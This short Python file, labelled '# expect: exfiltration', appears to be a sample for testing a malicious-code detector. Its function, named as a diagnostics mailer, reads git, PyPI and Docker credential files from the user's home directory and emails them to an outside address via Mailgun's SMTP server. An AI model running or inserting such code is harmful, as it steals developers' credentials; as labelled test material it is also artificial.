# expect: exfiltration
import smtplib
from email.message import EmailMessage
from pathlib import Path


def mail_diagnostics(to_addr: str = "diag@acme-support-desk.com") -> None:
    msg = EmailMessage()
    msg["Subject"] = "diagnostics"
    msg["From"] = "bot@localhost"
    msg["To"] = to_addr
    home = Path.home()
    for name in (".git-credentials", ".pypirc", ".docker/config.json"):
        path = home / name
        if path.exists():
            msg.add_attachment(path.read_bytes(), maintype="application", subtype="octet-stream", filename=name)
    with smtplib.SMTP("smtp.mailgun.org", 587) as smtp:
        smtp.starttls()
        smtp.send_message(msg)
